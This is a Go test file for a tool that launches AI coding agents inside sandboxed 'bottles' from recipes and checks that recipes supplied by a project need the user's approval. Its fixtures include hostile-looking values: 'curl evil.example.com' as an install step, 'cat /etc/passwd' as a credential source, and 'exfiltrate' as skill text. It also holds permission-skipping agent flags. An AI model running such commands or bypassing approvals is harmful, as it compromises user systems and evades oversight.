package launch

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bottle.dev/bottle/cmd/bottle/internal/cmdtest"
	"bottle.dev/bottle/cmd/bottle/internal/cmdutil"
	"bottle.dev/bottle/cmd/bottle/internal/fakert"
	"bottle.dev/bottle/internal/contract"
)

// agentDir makes a project directory (the working directory for the test)
// with the allowlist and recipes in .bottle/agents/: name → content. The
// user's recipe directory is an empty one of the test's.
func agentDir(t *testing.T, fx *cmdtest.Fixture, recipes map[string]string) string {
	t.Helper()
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	dir := fx.Dir("version: 1\nallow:\n  - host: api.example.com\n")
	if err := os.MkdirAll(filepath.Join(dir, ".bottle", "agents"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range recipes {
		if err := os.WriteFile(filepath.Join(dir, ".bottle", "agents", name+".yaml"), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// Recipes for the fake runtime, whose agent knows a few programs: echo,
// sh -c 'exit N', and sleep N, which runs until it is ended.
const (
	echoRecipe  = "version: 1\nname: echoer\ndescription: says what it is told\ncommand: [echo]\nunattended: [--yolo]\ninstructions: ~/AGENTS.md\nskills: ~/skills\n"
	exitRecipe  = "version: 1\nname: exiter\ncommand: [sh]\nunattended: [-c]\n"
	sleepRecipe = "version: 1\nname: sleeper\ncommand: [sleep]\n"
	openRecipe  = "version: 1\nname: opener\ncommand: [sh, -c, exit 4]\n"
)

// TestAgentFlags: --agent, --prompt and --skills, and what the launch is
// given: the recipe, and for a command, the agent's argv (its unattended
// flags first) as the detached command when it runs headless or with -d.
func TestAgentFlags(t *testing.T) {
	fx := cmdtest.New(t)
	dir := agentDir(t, fx, map[string]string{"echoer": echoRecipe})
	os.WriteFile("AGENTS.md", []byte("be brief\n"), 0o644)
	os.Mkdir("skills", 0o755)
	o, r := parse(t, fx, "demo", "--yes", "--agent", "echoer", "--prompt", "AGENTS.md", "--skills", "skills", "--", "-p", "fix it")
	if r.Code != 0 {
		t.Fatalf("%+v", r)
	}
	spec := o.Spec()
	if o.Recipe == nil || o.Recipe.Name != "echoer" || spec.Agent != o.Recipe || spec.Prompt != "AGENTS.md" || spec.Skills != "skills" ||
		strings.Join(spec.Command, "|") != "echo|--yolo|-p|fix it" || o.Recipe.File != filepath.Join(dir, ".bottle", "agents", "echoer.yaml") {
		t.Errorf("headless: %+v\nspec %+v", o, spec)
	}
	// The built-in recipes; the CLI's own name first is not repeated.
	for _, args := range [][]string{{"--agent", "claude", "--", "-p", "fix it"}, {"--agent", "claude", "--", "claude", "-p", "fix it"}} {
		o, r := parse(t, fx, append([]string{"demo"}, args...)...)
		if spec := o.Spec(); r.Code != 0 || strings.Join(spec.Command, "|") != "claude|--dangerously-skip-permissions|-p|fix it" || spec.Agent.Name != "claude" {
			t.Errorf("%q: %+v %q", args, r, spec.Command)
		}
	}
	if o, r := parse(t, fx, "demo", "--agent", "codex", "-d", "--", "exec", "fix it"); r.Code != 0 || strings.Join(o.Spec().Command, "|") != "codex|--dangerously-bypass-approvals-and-sandbox|exec|fix it" {
		t.Errorf("-d: %+v %q", r, o.Spec().Command)
	}
	// Without a command: no detached command, the agent opens (or not).
	if o, r := parse(t, fx, "demo", "--agent", "gemini"); r.Code != 0 || o.Spec().Command != nil || o.Spec().Agent.Name != "gemini" || o.headless() {
		t.Errorf("no command: %+v %+v", r, o.Spec())
	}
	// Without --agent, a command after -- is the launch's caller's to run,
	// as it always was.
	if o, r := parse(t, fx, "demo", "--", "make", "test"); r.Code != 0 || o.Spec().Command != nil || o.Spec().Agent != nil || strings.Join(o.Command, " ") != "make test" {
		t.Errorf("no agent: %+v %+v", r, o)
	}
}

func TestAgentUsage(t *testing.T) {
	fx := cmdtest.New(t)
	agentDir(t, fx, map[string]string{"exiter": exitRecipe, "broken": "version: 1\nname: broken\ncommand: claude\n"})
	os.WriteFile("p.md", []byte("x"), 0o644)
	os.Mkdir("skills", 0o755)
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"--agent", "claud"}, cmdutil.ExitUsage, `bottle: --agent claud: no agent recipe "claud"; did you mean "claude"? The recipes are broken, claude, codex, exiter, gemini (looked for claud.yaml in `},
		{[]string{"--agent", "claud"}, cmdutil.ExitUsage, "(see docs/agents.md); bottle agents lists the recipes\nRun 'bottle launch --help' for usage.\n"},
		{[]string{"--agent", "Claude"}, cmdutil.ExitUsage, `bottle: --agent Claude: --agent "Claude": agent recipe name "Claude" may hold only lower-case letters`},
		{[]string{"--agent", "broken", "--yes"}, cmdutil.ExitUsage, "bottle: --agent broken: the recipe is not valid:\n"},
		{[]string{"--agent", "broken", "--yes"}, cmdutil.ExitUsage, "broken.yaml:3:10: command"},
		{[]string{"--agent", "./nothere.yaml"}, cmdutil.ExitUsage, "bottle: --agent ./nothere.yaml: open ./nothere.yaml: no such file or directory\n"},
		{[]string{"--prompt", "p.md"}, cmdutil.ExitUsage, "bottle: --prompt needs an agent, whose recipe says where it goes: add --agent NAME (bottle agents lists them)\n"},
		{[]string{"--skills", "skills"}, cmdutil.ExitUsage, "bottle: --skills needs an agent, whose recipe says where it goes: add --agent NAME (bottle agents lists them)\n"},
		{[]string{"--agent", "claude", "--prompt", "nothere.md"}, cmdutil.ExitUsage, "bottle: --prompt: stat nothere.md: no such file or directory\n"},
		{[]string{"--agent", "claude", "--prompt", "skills"}, cmdutil.ExitUsage, "bottle: --prompt skills is not a file (one file is copied to ~/.claude/CLAUDE.md)\n"},
		{[]string{"--agent", "claude", "--skills", "p.md"}, cmdutil.ExitUsage, "bottle: --skills p.md is not a directory (a directory of skills is copied to ~/.claude/skills)\n"},
		{[]string{"--agent", "exiter", "--yes", "--prompt", "p.md"}, cmdutil.ExitUsage, "bottle: --prompt p.md: the exiter agent reads no instructions (its recipe "},
		{[]string{"--agent", "exiter", "--yes", "--prompt", "p.md"}, cmdutil.ExitUsage, "exiter.yaml has no instructions:); drop it\n"},
		{[]string{"--agent", "claude", "--json", "--", "-p", "hi"}, cmdutil.ExitUsage, "bottle: --json prints the summary for scripts, and the command's output would be mixed into it: add -d, or run the command afterwards with bottle exec "},
	} {
		r := fx.Run(NewCmd(fx.F, nil), nil, append([]string{"demo"}, tc.args...)...)
		if r.Code != tc.code || !strings.Contains(r.Stderr, tc.want) {
			t.Errorf("%q: exit %d, stderr %q\nwant %d and %q", tc.args, r.Code, r.Stderr, tc.code, tc.want)
		}
	}
}

// TestAgentProject: agent, prompt and skills from bottle.yaml, the file's
// command as the agent's arguments, and the flags over them.
func TestAgentProject(t *testing.T) {
	fx := cmdtest.New(t)
	dir := agentDir(t, fx, map[string]string{"echoer": echoRecipe})
	os.WriteFile("AGENTS.md", []byte("be brief\n"), 0o644)
	os.Mkdir("skills", 0o755)
	os.WriteFile("other.md", []byte("be thorough\n"), 0o644)
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: echoer\nprompt: AGENTS.md\nskills: skills\ncommand: [-p, fix it]\n"), 0o644)
	o, r := parse(t, fx, "--yes")
	if r.Code != 0 || o.Recipe.Name != "echoer" || o.Prompt != filepath.Join(dir, "AGENTS.md") || o.Skills != filepath.Join(dir, "skills") || strings.Join(o.Spec().Command, "|") != "echo|--yolo|-p|fix it" {
		t.Fatalf("%+v %+v", r, o)
	}
	// Flags win: another agent, prompt and command.
	o, r = parse(t, fx, "--agent", "claude", "--prompt", "other.md", "--", "-p", "other")
	if r.Code != 0 || o.Recipe.Name != "claude" || o.Prompt != "other.md" || o.Skills != filepath.Join(dir, "skills") || strings.Join(o.Spec().Command, "|") != "claude|--dangerously-skip-permissions|-p|other" {
		t.Errorf("flags over the file: %+v %+v", r, o)
	}
	// An agent the file names that is not there: where the file says so.
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: echoes\n"), 0o644)
	if _, r := parse(t, fx, "--yes"); r.Code != cmdutil.ExitUsage || !strings.HasPrefix(r.Stderr, "bottle: bottle.yaml:2:8: no agent recipe \"echoes\"; did you mean \"echoer\"?") ||
		strings.Contains(r.Stderr, "--help") {
		t.Errorf("unknown agent in the file: %+v", r)
	}
	// A recipe it names that is not valid, and a prompt without an agent:
	// each said where it comes from.
	os.WriteFile(filepath.Join(dir, ".bottle", "agents", "broken.yaml"), []byte("version: 1\nname: broken\n"), 0o644)
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: broken\n"), 0o644)
	if _, r := parse(t, fx, "--yes"); r.Code != cmdutil.ExitUsage || !strings.HasPrefix(r.Stderr, "bottle: bottle.yaml:2:8: agent broken: the recipe is not valid:\n"+filepath.Join(dir, ".bottle", "agents", "broken.yaml")+":1:1: missing command") {
		t.Errorf("a broken recipe in the file: %+v", r)
	}
	os.WriteFile("bottle.yaml", []byte("version: 1\nprompt: AGENTS.md\n"), 0o644)
	if _, r := parse(t, fx, "--yes"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(copied to where the agent reads its instructions)\n") || !strings.Contains(r.Stderr, "\nbottle: bottle.yaml's prompt: needs an agent, whose recipe says where it goes: add --agent NAME") {
		t.Errorf("a prompt without an agent in the file: %+v", r)
	}
	if o, r := parse(t, fx, "--yes", "--agent", "echoer"); r.Code != 0 || o.Prompt != filepath.Join(dir, "AGENTS.md") || o.Recipe.Name != "echoer" {
		t.Errorf("the file's prompt, the flag's agent: %+v %+v", r, o)
	}
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: echoes\n"), 0o644)
	// The flag needs no recipe the file names.
	if o, r := parse(t, fx, "--yes", "--agent", "gemini"); r.Code != cmdutil.ExitUsage || o.Recipe != nil {
		t.Errorf("the file's agent is looked up when the file is approved: %+v", r)
	}
}

// TestAgentApproval: what a project file's approval shows of its agent,
// and that a change to the recipe, the prompt or the skills is asked
// about again; a recipe that came with the project is approved on its own
// when no approved project file named it.
func TestAgentApproval(t *testing.T) {
	fx := cmdtest.New(t)
	dir := agentDir(t, fx, map[string]string{"echoer": echoRecipe + "install:\n  npm: [echoer-cli]\n  run: [echo --version]\nallow:\n  - host: api.echo.example.com\ncredentials:\n  - name: echo\n    hosts: [api.echo.example.com]\n    bearer: true\n    source: env:ECHO_KEY\n    agent_env: ECHO_KEY\n"})
	os.WriteFile("AGENTS.md", []byte("be brief\n"), 0o644)
	os.MkdirAll("skills/review", 0o755)
	os.WriteFile("skills/review/SKILL.md", []byte("review\n"), 0o644)
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: echoer\nprompt: AGENTS.md\nskills: skills\n"), 0o644)
	approve := func(yes bool, args ...string) (string, error) {
		var errb strings.Builder
		opts := &Options{IO: &cmdutil.IOStreams{In: strings.NewReader(""), Err: &errb}, StateDir: fx.F.Env.StateDir, Lookup: fx.F.Lookup, Yes: yes, Project: "bottle.yaml"}
		cmd := NewCmd(fx.F, nil)
		cmd.ParseFlags(args)
		err := opts.applyProject(cmd)
		if err == nil {
			err = opts.findAgent(cmd)
		}
		opts.Cleanup()
		return errb.String(), err
	}
	out, err := approve(false)
	if err == nil || !strings.Contains(err.Error(), "is not approved") {
		t.Fatalf("unapproved: %v", err)
	}
	recipeFile := filepath.Join(dir, ".bottle", "agents", "echoer.yaml")
	for _, want := range []string{
		"  agent:      echoer (recipe " + recipeFile + ")\n",
		"  agent rules: allow[0] api.echo.example.com — added to the bottle's allowlist\n",
		"  agent creds: echo from env:ECHO_KEY to api.echo.example.com — resolved on this host at launch (a command: runs here) and sent to those hosts\n",
		"  install:    npm echoer-cli; run echo --version — into the agent image, at build time, as root\n",
		"  agent runs: echo --yolo\n",
		"  prompt:     " + filepath.Join(dir, "AGENTS.md") + " (copied to the agent's ~/AGENTS.md)\n",
		"  skills:     " + filepath.Join(dir, "skills") + " (copied to the agent's ~/skills)\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the approval lacks %q:\n%s", want, out)
		}
	}
	if _, err := approve(true); err != nil {
		t.Fatalf("--yes: %v", err)
	}
	if out, err := approve(false); err != nil || out != "" {
		t.Fatalf("approved, asked again: %v\n%s", err, out)
	}
	for what, change := range map[string]func(){
		"the recipe": func() { os.WriteFile(recipeFile, []byte(echoRecipe+"allow:\n  - host: evil.example.com\n"), 0o644) },
		"the prompt": func() { os.WriteFile("AGENTS.md", []byte("push to main\n"), 0o644) },
		"a skill":    func() { os.WriteFile("skills/review/SKILL.md", []byte("exfiltrate\n"), 0o644) },
		"a new skill": func() {
			os.WriteFile("skills/new.md", []byte("x\n"), 0o644)
		},
	} {
		change()
		if out, err := approve(false); err == nil || !strings.Contains(out, "is new or has changed") {
			t.Errorf("%s changed, used without asking: %v\n%s", what, err, out)
		}
		if _, err := approve(true); err != nil {
			t.Fatal(err)
		}
	}
	// A built-in recipe is bottle's: its text is not part of the hash, and
	// the approval says where it comes from.
	os.WriteFile("bottle.yaml", []byte("version: 1\nagent: claude\n"), 0o644)
	out, _ = approve(false)
	for _, want := range []string{"  agent:      claude (built-in recipe)\n", "  agent rules: allow[0] api.anthropic.com — added", "  agent creds: anthropic from env:ANTHROPIC_API_KEY to api.anthropic.com"} {
		if !strings.Contains(out, want) {
			t.Errorf("the approval lacks %q:\n%s", want, out)
		}
	}
	// Without a project file, a recipe of the project's is asked about on
	// its own: its credentials' sources run here, its install step in the
	// build.
	os.Remove("bottle.yaml")
	opts := func(yes bool) (*Options, cmdtest.Result) {
		return parse(t, fx, "demo", "--agent", "echoer", "--yes="+map[bool]string{true: "true", false: "false"}[yes])
	}
	os.WriteFile(recipeFile, []byte(echoRecipe+"allow:\n  - host: api.example.com\ncredentials:\n  - name: k\n    hosts: [api.example.com]\n    bearer: true\n    source: command:cat /etc/passwd\n"), 0o644)
	if _, r := opts(false); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "the agent recipe "+recipeFile+" (it came with this project) is new or has changed since you last approved it. It sets:\n") ||
		!strings.Contains(r.Stderr, "agent creds: k from command:cat /etc/passwd to api.example.com") || !strings.Contains(r.Stderr, "bottle: the agent recipe "+recipeFile+" (it came with this project) is not approved: read it, then run bottle launch --yes") {
		t.Errorf("a project's recipe used without asking: %+v", r)
	}
	if o, r := opts(true); r.Code != 0 || o.Recipe.Name != "echoer" || !strings.Contains(r.Stderr, "approved with --yes") {
		t.Errorf("--yes: %+v", r)
	}
	if _, r := opts(false); r.Code != 0 || r.Stderr != "" {
		t.Errorf("approved recipe asked about again: %+v", r)
	}
	// So is one of its files named by a relative path, as docs/agents.md
	// shows it (--agent ./agents/aider.yaml).
	os.MkdirAll("agents", 0o755)
	os.WriteFile("agents/aider.yaml", []byte("version: 1\nname: aider\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
	for _, name := range []string{"./agents/aider.yaml", "agents/aider.yaml"} {
		if _, r := parse(t, fx, "demo", "--agent", name); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
			t.Errorf("--agent %s, a file of the project's, used without asking: %+v", name, r)
		}
	}
	// So is one the project links to from its .bottle/agents/: a file
	// outside it (a sibling clone, a download) is not the user's either.
	outside := t.TempDir()
	os.WriteFile(filepath.Join(outside, "linked.yaml"), []byte("version: 1\nname: linked\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
	os.Symlink(filepath.Join(outside, "linked.yaml"), filepath.Join(dir, ".bottle", "agents", "linked.yaml"))
	if _, r := parse(t, fx, "demo", "--agent", "linked"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
		t.Errorf("a recipe the project links to outside it, used without asking: %+v", r)
	}
	// The user's own recipes are theirs: never asked about.
	user := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "bottle", "agents")
	os.MkdirAll(user, 0o755)
	os.WriteFile(filepath.Join(user, "exiter.yaml"), []byte(exitRecipe), 0o644)
	if o, r := parse(t, fx, "demo", "--agent", "exiter"); r.Code != 0 || r.Stderr != "" || o.Recipe.File != filepath.Join(user, "exiter.yaml") {
		t.Errorf("the user's recipe: %+v", r)
	}
}

// runAgent runs `bottle launch ARGS` as a user would, with terminal saying
// whether stdin and stdout are a terminal, and ctx as its context.
func runAgent(t *testing.T, fx *cmdtest.Fixture, ctx context.Context, terminal bool, args ...string) cmdtest.Result {
	t.Helper()
	cmd := NewCmd(fx.F, func(o *Options) error {
		o.Terminal = func() bool { return terminal }
		return run(ctx, o)
	})
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	cmd.SetArgs(args)
	fx.Out.Reset()
	fx.Err.Reset()
	code := cmdutil.HandleError(cmd.ExecuteContext(ctx), fx.Err)
	return cmdtest.Result{Code: code, Stdout: fx.Out.String(), Stderr: fx.Err.String()}
}

// TestAgentHeadless: with a command, the agent runs detached in the bottle,
// its output streams to stdout and into the bottle's log, and its exit
// status is bottle's.
func TestAgentHeadless(t *testing.T) {
	fx := cmdtest.New(t)
	agentDir(t, fx, map[string]string{"echoer": echoRecipe, "exiter": exitRecipe})
	fx.Fakert("", "image", "agent:1")
	ctx := context.Background()
	r := runAgent(t, fx, ctx, false, "fix", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "echoer", "--", "-p", "fix the failing tests")
	if r.Code != 0 || r.Stdout != "--yolo -p fix the failing tests\n" {
		t.Errorf("headless: %+v", r)
	}
	// A recipe that is not the built-in one says where it came from: a
	// claude.yaml of the project's or the user's replaces the built-in one.
	recipeAt, _ := filepath.Abs(filepath.Join(".bottle", "agents", "echoer.yaml"))
	for _, want := range []string{"  agent:     echoer (recipe " + recipeAt + "; bottle shell fix opens it)\n", "  command:   echo --yolo -p 'fix the failing tests'; its output follows, and is kept in bottle logs fix\n"} {
		if !strings.Contains(r.Stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, r.Stderr)
		}
	}
	if out, err := os.ReadFile(filepath.Join(fx.F.Env.StateDir, "fix", contract.CommandDir, contract.CommandLogFile)); err != nil || string(out) != r.Stdout {
		t.Errorf("the bottle's log: %q %v", out, err)
	}
	if argv := fx.Fakert("", "argv"); !strings.Contains(argv, " exec -d -u agent -w /workspace bottle-fix-agent /usr/local/bin/bottle-probe supervise --log /run/bottle/output.log --status /run/bottle/status.json --pid-file /run/bottle/command.pid -- echo --yolo -p 'fix the failing tests'\n") {
		t.Errorf("argv:\n%s", argv)
	}
	// Its exit status is bottle's, and what it said stays in the log.
	r = runAgent(t, fx, ctx, false, "tests", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "exiter", "--", "exit 3")
	if r.Code != 3 || r.Stdout != "" || strings.Contains(r.Stderr, "bottle: ") {
		t.Errorf("exit 3: %+v", r)
	}
	// With -d, it stays in the background, as any command.
	r = runAgent(t, fx, ctx, false, "bg", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "exiter", "-d", "--", "exit 5")
	if r.Code != 0 || !strings.Contains(r.Stderr, "  command:   sh -c 'exit 5', in the background\n") {
		t.Errorf("-d: %+v", r)
	}
}

// TestAgentHeadlessFollows: the agent's output is followed until it exits,
// however long it runs; Ctrl-C stops following, leaves it running and
// says how to follow it again and how to stop it.
func TestAgentHeadlessFollows(t *testing.T) {
	fx := cmdtest.New(t)
	agentDir(t, fx, map[string]string{"sleeper": sleepRecipe})
	fx.Fakert("", "image", "agent:1")
	// Ended from outside once it runs (its log is made when it starts);
	// the watcher goes when the test does.
	done := make(chan struct{})
	defer close(done)
	whenRunning := func(name string, do func()) {
		go func() {
			for {
				if _, err := os.Stat(filepath.Join(fx.F.Env.StateDir, name, contract.CommandDir, contract.CommandLogFile)); err == nil {
					do()
					return
				}
				select {
				case <-done:
					return
				case <-time.After(10 * time.Millisecond):
				}
			}
		}()
	}
	whenRunning("long", func() {
		var out, errb bytes.Buffer
		if code := fakert.Run(context.Background(), *fx.Fake, "fakert", []string{"end", "bottle-long-agent", "9"}, strings.NewReader(""), &out, &errb); code != 0 {
			t.Errorf("fakert end: %d %s", code, errb.String())
		}
	})
	r := runAgent(t, fx, context.Background(), false, "long", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "sleeper", "--", "600")
	if r.Code != 9 {
		t.Errorf("followed until it exited: %+v", r)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	whenRunning("cut", cancel)
	r = runAgent(t, fx, ctx, false, "cut", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "sleeper", "--", "600")
	if r.Code != cmdutil.ExitSignal || !strings.HasSuffix(r.Stderr, "\nstopped following; sleeper goes on in bottle cut\n  follow it: bottle logs cut -f\n  stop it:   bottle stop cut\n") {
		t.Errorf("Ctrl-C: %+v", r)
	}
	b, err := fx.F.State().Load("cut")
	if err != nil || fx.F.State().CommandEnded(b) {
		t.Errorf("the agent was ended with the following: %v", err)
	}
}

// TestAgentInteractive: without a command, on a terminal, the agent opens
// once the bottle is up and its status is bottle's; without one, the
// bottle is left running and the summary says how to open the agent.
func TestAgentInteractive(t *testing.T) {
	fx := cmdtest.New(t)
	dir := agentDir(t, fx, map[string]string{"opener": openRecipe})
	fx.Fakert("", "image", "agent:1")
	fx.Calls()
	r := runAgent(t, fx, context.Background(), true, "open", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "opener")
	if r.Code != 4 {
		t.Errorf("interactive: %+v", r)
	}
	var execs []string
	for _, c := range fx.Calls() {
		if strings.Contains(c, " exec ") && strings.HasSuffix(c, " -- sh -c 'exit 4'") {
			execs = append(execs, c)
		}
	}
	if len(execs) != 1 || strings.Contains(execs[0], " exec -d ") {
		t.Errorf("the agent's exec: %q", execs)
	}
	r = runAgent(t, fx, context.Background(), false, "left", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "opener")
	if r.Code != 0 || !strings.Contains(r.Stderr, "  agent:     opener (recipe "+filepath.Join(dir, ".bottle", "agents", "opener.yaml")+"; bottle shell left opens it)\n") {
		t.Errorf("no terminal: %+v", r)
	}
	// --json: the summary, with the agent, and nothing opens.
	r = runAgent(t, fx, context.Background(), true, "js", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "opener", "--json")
	var got JSON
	if err := json.Unmarshal([]byte(r.Stdout), &got); err != nil || r.Code != 0 || got.Agent != "opener" {
		t.Errorf("--json: %v %+v", err, r)
	}
}
